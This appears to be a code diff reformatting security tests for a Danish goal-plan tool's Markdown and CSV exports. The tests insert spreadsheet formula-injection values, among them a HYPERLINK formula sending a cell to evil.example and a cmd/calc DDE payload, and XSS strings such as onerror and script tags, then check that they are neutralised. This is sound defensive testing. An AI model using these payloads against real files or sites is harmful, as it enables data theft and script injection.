@@ -23,7 +23,15 @@ describe('Markdown export', () => {
   })
 
   it('has one table row per goal, and every row has four cells', () => {
-    const goalRows = md.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| Mål ') && !l.startsWith('| Målgruppe') && !/^\| (sygedagpenge|jobafklaring|ledighedsydelse|kontanthjaelp) /.test(l))
+    const goalRows = md
+      .split('\n')
+      .filter(
+        (l) =>
+          l.startsWith('| ') &&
+          !l.startsWith('| Mål ') &&
+          !l.startsWith('| Målgruppe') &&
+          !/^\| (sygedagpenge|jobafklaring|ledighedsydelse|kontanthjaelp) /.test(l)
+      )
     expect(goalRows).toHaveLength(6)
     for (const row of goalRows) expect(row.split(/(?<!\\)\|/).length - 2).toBe(4)
   })
@@ -57,9 +65,17 @@ describe('goals.csv', () => {
       period: r[col('Målperiode')],
       comparator: r[col('Sammenligning')]
     }))
-    const expected = plan.goals.flatMap((g) => g.targets).map((t) => ({
-      id: t.id, kind: t.kind, unit: t.unit, baseline: t.baseline?.value ?? null, target: t.target.value, period: t.target.period ?? '', comparator: t.target.comparator
-    }))
+    const expected = plan.goals
+      .flatMap((g) => g.targets)
+      .map((t) => ({
+        id: t.id,
+        kind: t.kind,
+        unit: t.unit,
+        baseline: t.baseline?.value ?? null,
+        target: t.target.value,
+        period: t.target.period ?? '',
+        comparator: t.target.comparator
+      }))
     expect(back).toEqual(expected)
     const sick = rows.find((r) => r[col('Målsætning-id')] === DEMO_IDS.targetSickLevel)!
     expect(sick[col('Seneste værdi')]).toBe('447')
@@ -76,9 +92,9 @@ describe('goals.csv neutralises formulas', () => {
     const goal = plan.goals.find((g) => g.focusAreaId === plan.focusAreas[0]!.id && g.targets.length)!
     goal.title = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
     const target = goal.targets[0]!
-    target.indicator = '+cmd|\' /C calc\'!A0'
+    target.indicator = "+cmd|' /C calc'!A0"
     target.targetGroup = '-2+3'
-    target.sentence = '@SUM(1+1)*cmd|\' /C calc\'!A0'
+    target.sentence = "@SUM(1+1)*cmd|' /C calc'!A0"
     target.baseline = { value: -5, period: '\r=2+2' }
     target.target = { ...target.target, value: -1.5 }
     return plan
@@ -97,7 +113,10 @@ describe('goals.csv neutralises formulas', () => {
     expect(row[col('Udgangspunkt periode')]).toBe("'\r=2+2")
     // Numbers and the closed comparator vocabulary (<=, >=, =) are the only cells written as they are.
     const asIs = new Set(['Udgangspunkt', 'Målværdi', 'Seneste værdi', 'Sammenligning'].map(col))
-    for (const r of rows) r.forEach((cell, i) => { if (!asIs.has(i)) expect(cell).not.toMatch(/^[=+\-@\t\r]/) })
+    for (const r of rows)
+      r.forEach((cell, i) => {
+        if (!asIs.has(i)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      })
   })
 
   it('keeps negative numbers in number columns as numbers', () => {
@@ -121,11 +140,15 @@ describe('Markdown export of hostile links and text', () => {
   // What a Markdown renderer makes of it (marked passes raw HTML through, as many do).
   const rendered = (md: string) => marked.parse(md, { async: false })
   /** The elements the rendered HTML really has (not text that looks like tags). */
-  const elements = (html: string) => DomUtils.findAll(() => true, parseDocument(html).children).map((e) => ({ name: e.name, attrs: Object.keys(e.attribs), href: e.attribs.href }))
+  const elements = (html: string) =>
+    DomUtils.findAll(() => true, parseDocument(html).children).map((e) => ({ name: e.name, attrs: Object.keys(e.attribs), href: e.attribs.href }))
   const expectHarmless = (html: string) => {
     for (const e of elements(html)) {
       expect(['h1', 'p', 'em', 'strong', 'a', 'br'], html).toContain(e.name)
-      expect(e.attrs.filter((a) => a !== 'href'), html).toEqual([])
+      expect(
+        e.attrs.filter((a) => a !== 'href'),
+        html
+      ).toEqual([])
       if (e.href !== undefined) expect(e.href, html).toMatch(/^https?:/)
     }
   }
@@ -155,7 +178,11 @@ describe('Markdown export of hostile links and text', () => {
   })
 
   it('escapes HTML-ish text, in link text too, so no tag or entity survives', () => {
-    const md = mdOf(s.text('<img src=x onerror=alert(1)> &lt;script&gt; '), linked('<b onmouseover=alert(2)>tekst</b>', 'https://star.dk/'), s.text(' <javascript:alert(3)>'))
+    const md = mdOf(
+      s.text('<img src=x onerror=alert(1)> &lt;script&gt; '),
+      linked('<b onmouseover=alert(2)>tekst</b>', 'https://star.dk/'),
+      s.text(' <javascript:alert(3)>')
+    )
     const html = rendered(md)
     expectHarmless(html)
     expect(html).toContain('<a href="https://star.dk/">')
@@ -164,7 +191,9 @@ describe('Markdown export of hostile links and text', () => {
   })
 
   it('a follow-up whose date or status attribute holds HTML is escaped', () => {
-    const goal = buildGoalTable([{ title: 'Mål', followUps: [{ targetId: 'ingen', date: '<img src=x onerror=alert(1)>', value: 1, status: '<script>x</script>' as never }] }])
+    const goal = buildGoalTable([
+      { title: 'Mål', followUps: [{ targetId: 'ingen', date: '<img src=x onerror=alert(1)>', value: 1, status: '<script>x</script>' as never }] }
+    ])
     const html = rendered(planToMarkdown(buildDoc([goal]), meta))
     expect(elements(html).map((e) => e.name)).not.toContain('img')
     expect(elements(html).map((e) => e.name)).not.toContain('script')
